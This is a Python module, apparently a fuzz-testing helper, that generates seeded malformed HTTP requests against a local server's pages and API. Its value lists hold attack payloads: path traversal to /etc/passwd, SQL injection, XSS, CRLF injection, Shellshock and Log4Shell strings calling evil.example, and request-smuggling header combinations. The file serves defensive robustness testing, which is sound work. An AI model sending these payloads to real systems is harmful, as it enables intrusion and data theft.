"""Make malformed requests as bytes from a seed. The same seed gives the same request."""

import random

from views.server.routes import PAGES

ADDRESSES = (
    *PAGES, "/healthz", "/api/v1/patrols.csv", "/api/v1/incidents.json", "/api/v1/suspensions.parquet", "/api/v1/rates.csv",
    "/api/v1/series.json", "/api/v1/sources.csv", "/api/v1/releases", "/api/v1/openapi.json", "/api/v1", "/api", "/api/v1/x",
    "/static/js/x.js", "/static/", "/media/x", "/favicon.png", "/_stcore/health", "/_stcore/host-config", "/_stcore/stream",
    "/_stcore/metrics", "/_stcore/upload_file/a/b", "/_stcore/agent/mcp", "/component/a/b", "/nothing",
)  # fmt: skip
KEYS = (
    "release", "corridor", "feed", "from", "to", "grain", "target", "verification", "participants", "sources", "records_from",
    "km_from", "search", "everywhere", "record", "table", "v", "sent", "embed", "", "x", "__proto__", "release[]", "a.b", "%00",
)  # fmt: skip
VALUES = (
    "R1", "newest", "R0", "R999999", "R-1", "m4", "2020-03-15", "2020-02-30", "month", "week", "any", "yes", "", "%00", "a%00b",
    "%c0%af", "%ff%fe", "%ed%a0%80", "%F4%90%80%80", "%", "%u0041", "%2e%2e%2f", "../../etc/passwd", "%0d%0aX:%20y", "'", "\"",
    "' OR 1=1 --", "1;DROP TABLE patrols", "$search", "{{7*7}}", "<script>alert(1)</script>", "nan", "inf", "1e400", "-0",
    "9" * 400, "\xff\xfe", "\xc3\xa9", "%E2%80%AE", "%F0%9F%92%A9", "+", "&&&", ";", "a=b=c",
)  # fmt: skip
DETOURS = (
    "/..%2f..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/../../etc/passwd", "/..%5c..%5cwindows", "/..\\..\\x", "//", "/./",
    "/%00", "/%c0%ae%c0%ae/", "/\xff", "/%ff", "/;a=b", "/%2f", "/.", "/C:/x", "/%5c%5chost%5cshare", "?", "#", "/%", "/%25%32%65",
    "/static/..%2f..%2fpyproject.toml", "/static/%2e%2e/%2e%2e/config.toml", "/media/..%2f..%2fx", "/static//etc/passwd",
)  # fmt: skip
METHODS = (
    *("GET",) * 50, *("HEAD",) * 12, "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT", "PROPFIND",
    "get", "Head", "M-SEARCH", "X" * 300, "G T", "", "\x00", "GET\t", "\xff",
)  # fmt: skip
VERSIONS = ("HTTP/1.1",) * 80 + (
    "HTTP/1.0",
    "HTTP/0.9",
    "HTTP/2.0",
    "HTTP/1.9",
    "http/1.1",
    "HTTP/1.1 x",
    "",
    "ICAP/1.0",
)
HOSTS = (
    "127.0.0.1", "localhost", "localhost:1", "evil.example", "[::1]", "[::1", "", "a b", "127.0.0.1:x", "127.0.0.1:99999",
    "user@127.0.0.1", "127.0.0.1/x", "\xff", "127.0.0.1, evil.example", "0x7f000001", "127.1",
)  # fmt: skip
TAG = '"0123456789abcdef0123456789abcdef"'
HEADERS = {
    "Origin": ("http://evil.example", "null", "http://127.0.0.1", "", "\xff", "http://[", "a" * 9000),
    "Sec-Fetch-Site": ("cross-site", "same-site", "none", "same-origin", "?", ""),
    "Sec-Fetch-Mode": ("navigate", "no-cors", "cors", "websocket", ""),
    "Sec-Fetch-Dest": ("document", "iframe", "image", ""),
    "Range": ("bytes=0-9", "bytes=-5", "bytes=5-", "bytes=9-1", "bytes=0-0,-1", "bytes=0-" + "9" * 40, "x", "bytes=a-b", "lines=1"),
    "If-Range": (TAG, "W/" + TAG, "Sat, 01 Jan 2050 00:00:00 GMT", "x"),
    "If-None-Match": ("*", TAG, "W/" + TAG, f"{TAG}, W/{TAG},,", '"', "x", f"*, {TAG}", f"{TAG}," * 500, "\xff"),
    "If-Match": ("*", TAG, "W/" + TAG, "x", ""),
    "If-Modified-Since": ("Sat, 01 Jan 2050 00:00:00 GMT", "Sunday, 06-Nov-94 08:49:37 GMT", "x", "-1", "9" * 50),
    "If-Unmodified-Since": ("Sat, 01 Jan 2000 00:00:00 GMT", "x"),
    "Accept-Encoding": ("gzip", "*;q=0, gzip", "gzip;q=nan", "identity;q=0", ",;q=;,", "gzip" * 900, "\xff"),
    "Accept": ("text/html", "*/*", "application/x-protobuf", "x/", ""),
    "Expect": ("100-continue", "200-ok", ""),
    "Content-Length": ("0", "5", "-1", "+5", "5, 5", "5, 6", "9" * 30, "x", "0x5"),
    "Transfer-Encoding": ("chunked", "gzip, chunked", "identity", "xchunked", "chunked, chunked", ""),
    "Content-Type": ("text/csv", "multipart/form-data; boundary=x", "x", ""),
    "Connection": ("close", "keep-alive", "upgrade", "close, upgrade", "x" * 500, ""),
    "Upgrade": ("websocket", "h2c", "TLS/1.0", "x"),
    "Sec-WebSocket-Key": ("dGhlIHNhbXBsZSBub25jZQ==", "x", ""),
    "Sec-WebSocket-Version": ("13", "12", "x"),
    "Sec-WebSocket-Protocol": ("streamlit", "a, b, c", "\xff", "," * 300),
    "Cookie": ("_streamlit_xsrf=2|x", "a=b" * 5000, "=", "\xff", "_streamlit_user=x; _streamlit_session=x"),
    "X-Forwarded-For": ("1.2.3.4", "x, y", "[::", ""),
    "X-Forwarded-Proto": ("https", "x", "https,http", "\xff"),
    "X-Forwarded-Host": ("evil.example",),
    "Forwarded": ("for=x;host=evil.example",),
    "HTTP2-Settings": ("AAMAAABkAARAAAAAAAIAAAAA",),
    "X-HTTP-Method-Override": ("DELETE",),
    "Authorization": ("Basic eDp5", "Bearer x"),
    "User-Agent": ("() { :;}; echo x", "${jndi:ldap://evil.example/x}", "\xff"),
}  # fmt: skip
ODD_LINES = (
    "no colon",
    " folded",
    ": no name",
    "a b: c",
    "X\x00: y",
    "X: \x00",
    "X: a\rb",
    "X" * 70_000 + ": y",
    "\xff: y",
    "X :y",
)
BODIES = (
    "",
    "",
    "",
    "hello",
    "5\r\nhello\r\n0\r\n\r\n",
    "ffffffffffffffffff\r\n",
    "-1\r\n",
    "\x00" * 100,
    "GET / HTTP/1.1\r\n\r\n",
)


def make(seed: int, port: int) -> bytes:
    """Return the request of a seed: mostly one, sometimes several on one connection, sometimes with some bytes changed."""
    chance = random.Random(seed)
    parts = [_make_one(chance, port) for _ in range(chance.choice((1,) * 12 + (2, 5)))]
    whole = "".join(parts).encode("latin-1")
    if chance.random() < 0.08:
        for _ in range(chance.randint(1, 6)):
            place = chance.randrange(len(whole) or 1)
            whole = whole[:place] + bytes([chance.randrange(256)]) + whole[place + chance.randrange(2) :]
    return whole


def _make_one(chance: random.Random, port: int) -> str:
    line = chance.choice(("\r\n",) * 80 + ("\n", "\r"))
    names = [chance.choice(list(HEADERS)) for _ in range(chance.choice((0, 1, 1, 2, 3, 6)))]
    lines = [f"{name}: {chance.choice(HEADERS[name])}" for name in names]
    lines += [f"Host: {_make_host(chance, port)}" for _ in range(chance.choice((1,) * 60 + (0, 2)))]
    if chance.random() < 0.04:
        lines.append(chance.choice(ODD_LINES))
    if chance.random() < 0.01:
        lines += [f"X-{number}: y" for number in range(3000)]
    if "Connection" not in names:
        lines.append("Connection: close")
    chance.shuffle(lines)
    head = f"{chance.choice(METHODS)} {_make_target(chance, port)} {chance.choice(VERSIONS)}"
    return line.join((head, *lines, "", "")) + chance.choice(BODIES)


def _make_host(chance: random.Random, port: int) -> str:
    return f"127.0.0.1:{port}" if chance.random() < 0.8 else chance.choice(HOSTS)


def _make_target(chance: random.Random, port: int) -> str:
    path = chance.choice(ADDRESSES)
    if chance.random() < 0.2:
        path = path.rstrip("/") + chance.choice(DETOURS)
    if chance.random() < 0.03:
        path = chance.choice(
            (f"http://127.0.0.1:{port}{path}", f"http://evil.example{path}", "*", "evil.example:443", "http:", "x")
        )
    if chance.random() < 0.6:
        path += "?" + "&".join(
            f"{chance.choice(KEYS)}={chance.choice(VALUES)}" for _ in range(chance.choice((1, 1, 2, 3, 8)))
        )
    if chance.random() < 0.02:
        path += "?search=" + chance.choice(("x", "%00", "\xff", "a=&")) * chance.choice((5_000, 40_000, 100_000))
    return path
